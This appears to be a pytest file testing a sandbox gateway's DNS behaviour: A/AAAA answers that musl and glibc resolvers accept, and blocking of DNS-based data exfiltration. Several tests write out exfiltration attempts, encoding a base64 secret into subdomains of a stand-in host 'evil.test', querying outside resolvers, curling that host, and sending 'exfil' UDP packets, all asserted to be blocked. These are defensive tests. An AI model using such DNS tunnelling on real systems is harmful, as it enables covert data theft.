"""DNS cases from the field (BR-...): what resolvers of every make need, and no way out through names."""

import json
import re
import socket
import struct
import threading

import pytest

# Questions and answers by hand; several at once from one socket, as glibc and musl ask A and AAAA.
ASK = """
import struct

def question(name, kind, ident, flags=0x0100):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".") if p) + b"\\0"
    return struct.pack(">HHHHHH", ident, flags, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)

def read(asked, data):
    ident, flags, questions, answers, _, _ = struct.unpack(">HHHHHH", data[:12])
    return {"id": ident, "code": flags & 15, "answers": answers, "qr": bool(flags & 0x8000),
            "rd": bool(flags & 0x0100), "ra": bool(flags & 0x0080), "tc": bool(flags & 0x0200),
            "echoed": data[12:len(asked)] == asked[12:], "questions": questions}

def udp(name, *kinds, server="127.0.0.1", seconds=3.0):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(seconds)
    start, asked = time.monotonic(), {}
    for n, kind in enumerate(kinds):
        asked[0x1000 + n] = question(name, kind, 0x1000 + n)
        sock.sendto(asked[0x1000 + n], (server, 53))
    found = {}
    while len(found) < len(kinds):
        data = sock.recv(4096)
        ident = struct.unpack(">H", data[:2])[0]
        found[kinds[ident - 0x1000]] = {**read(asked[ident], data),
                                        "seconds": time.monotonic() - start}
    return found

def tcp(name, *kinds, server="127.0.0.1"):
    sock = socket.create_connection((server, 53), 3)
    start, found, rest = time.monotonic(), {}, b""
    asked = [question(name, kind, 0x2000 + n) for n, kind in enumerate(kinds)]
    sock.sendall(b"".join(struct.pack(">H", len(q)) + q for q in asked))
    while len(found) < len(kinds):
        while len(rest) < 2 or len(rest) < 2 + struct.unpack(">H", rest[:2])[0]:
            piece = sock.recv(4096)
            if not piece:
                raise Broken("the resolver closed")
            rest += piece
        size = struct.unpack(">H", rest[:2])[0]
        data, rest = rest[2:2 + size], rest[2 + size:]
        n = struct.unpack(">H", data[:2])[0] - 0x2000
        found[kinds[n]] = {**read(asked[n], data), "seconds": time.monotonic() - start}
    return found
"""
A, PTR, AAAA, TXT = 1, 12, 28, 16
NOERROR, NXDOMAIN = 0, 3


# -- BR-072 ----------------------------------------------------------------------------------------
def test_br072_a_and_aaaa_at_once_as_musl_asks(bench, echo):
    """musl fails the whole look-up on an AAAA that is refused: it is empty, without an error."""
    done = bench.python(ASK + f"""
for ask in (udp, tcp):
    show(alone=ask("api.test", {A}), six=ask("api.test", {AAAA}),
         both=ask("api.test", {A}, {AAAA}), turned=ask("api.test", {AAAA}, {A}),
         upper=ask("API.tEst", {A}, {AAAA}), dot=ask("api.test.", {A}, {AAAA}))
""")
    for seen in done.lines:
        for what, answers in seen.items():
            for kind, got in answers.items():
                wanted = 1 if int(kind) == A else 0
                assert (got["code"], got["answers"]) == (NOERROR, wanted), (what, kind, got)
                assert got["qr"] and got["ra"] and got["rd"] and not got["tc"], (what, got)
                assert got["echoed"] and got["questions"] == 1 and got["seconds"] < 0.2, (what, got)
    assert len(done.lines) == 2


def test_br072_a_name_is_there_or_not_for_every_type_alike(bench, echo):
    """An rcode that differs between A and AAAA of one name is what breaks resolvers."""
    done = bench.python(ASK + f"""
for name in ("api.test", "other.test", "evil.test", "a.api.test", "localhost"):
    show(name=name, codes={{k: v["code"] for k, v in udp(name, {A}, {AAAA}).items()}})
""")
    for seen in done.lines:
        assert len(set(seen["codes"].values())) == 1, seen


# -- BR-074 ----------------------------------------------------------------------------------------
class BenchResolver:
    """A resolver on the host that writes down what it is asked, and answers 10.77.0.2 for an A."""

    def __init__(self):
        self.asked = []
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._socket.getsockname()[1]}"
        self.errors = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                data, peer = self._socket.recvfrom(4096)
            except OSError:
                return
            at, labels = 12, []
            while data[at]:
                labels.append(data[at + 1:at + 1 + data[at]].decode("latin-1"))
                at += data[at] + 1
            kind = struct.unpack(">H", data[at + 1:at + 3])[0]
            self.asked.append(".".join(labels).lower())
            answer = (b"\xc0\x0c\0\1\0\1\0\0\0\1\0\4" + socket.inet_aton("10.77.0.2")
                      if kind == A else b"")
            self._socket.sendto(data[:2] + b"\x81\x80\0\1\0" + bytes([bool(answer)]) + b"\0\0\0\0" +
                                data[12:at + 5] + answer, peer)

    def stop(self):
        self._socket.close()


@pytest.fixture
def resolver(bench):
    made = BenchResolver()
    bench.origins.append(made)
    return made


def looking_up_at(bench, resolver, rules):
    upstream = {"ca": ["test-ca.pem"], "connect_to": {}, "resolvers": [resolver.address],
                "connect_timeout": "1s"}
    bench.config(rules=rules, gateway=bench.gateway(upstream=upstream), grants=[])


def test_br074_names_do_not_carry_data_out(bench, pki, resolver):
    """A look-up asks nobody, also of a name that is allowed, which is looked up when it is dialled; what
    may not be reached is NXDOMAIN, and recorded with its name."""
    rules = [{"name": "wild", "hosts": ["api.test", "*.api.test"], "action": "allow",
              "allow_private": True}]
    looking_up_at(bench, resolver, rules)
    done = bench.python(ASK + f"""
secret = "c2VjcmV0"
start = time.monotonic()
for server in ("127.0.0.1", "10.99.0.1", "8.8.8.8"):
    for name in (secret + ".evil.test", "x.evil.test"):
        for kind in ({A}, {AAAA}, {TXT}):
            got = attempt(lambda: udp(name, kind, server=server)[kind]["code"])
            show(name=name, server=server, code=got)
    show(name="x.evil.test", server=server, code=attempt(lambda: tcp("x.evil.test", {A},
                                                                    server=server)[{A}]["code"]))
show(name="ptr", server="",
     code=attempt(lambda: udp("1.0.99.10.in-addr.arpa", {PTR})[{PTR}]["code"]))
show(seconds=time.monotonic() - start)
for i in range(60):
    udp(f"{{secret}}{{i}}.api.test", {A})
show(wild=60)
""")
    *answers, timing, _ = done.lines
    assert all(a["code"] == NXDOMAIN for a in answers), answers
    assert timing["seconds"] < 3, timing
    assert resolver.asked == [], resolver.asked
    told = [r for r in done.records if "evil.test" in json.dumps(r) and
            "name_not_allowed" in json.dumps(r)]
    names = {n for r in told for n in re.findall(r"[\w.]+evil\.test", json.dumps(r))}
    assert {"c2VjcmV0.evil.test", "x.evil.test"} <= {n for n in names} | {
        n.replace("c2vjcmv0", "c2VjcmV0") for n in names}, told


def test_br074_the_resolver_hears_only_of_names_that_are_dialled(bench, pki, resolver):
    rules = [{"name": "wild", "hosts": ["api.test", "*.api.test"], "action": "allow",
              "paths": ["/ok"], "allow_private": True}]
    looking_up_at(bench, resolver, rules)
    done = bench.run("curl -s -o /dev/null -m 4 http://a.api.test/ok; "
                     "curl -s -o /dev/null -m 4 http://b.api.test/other; "
                     "curl -s -o /dev/null -m 4 --resolve c.evil.test:80:203.0.113.7 "
                     "http://c.evil.test/ok; "
                     "curl -s -o /dev/null -m 4 --resolve d.evil.test:443:203.0.113.7 "
                     "https://d.evil.test/ok; true", timeout=30)
    assert set(resolver.asked) == {"a.api.test"}, (resolver.asked, done)


def test_br074_packets_to_a_server_outside_never_arrive(bench, echo):
    """Neither to port 53 nor to any other: an answer to UDP 53 is ours, the rest fails in a second."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("0.0.0.0", 0))
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    done = bench.python("""
port = int(arguments()[0])
start = time.monotonic()
for address in ("10.99.0.1", "127.0.0.1", "198.51.100.7", "169.254.1.1"):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(0.3)
    attempt(lambda: sock.sendto(b"exfil", (address, port)))
    show(address=address, got=attempt(lambda: sock.recv(100).decode()))
show(seconds=time.monotonic() - start)
""", port)
    with pytest.raises(TimeoutError):
        listener.recv(100)
    listener.close()
    assert all(isinstance(r["got"], str) and "Error" in r["got"] or r["got"] == "timeout"
               for r in done.lines[:-1]), done
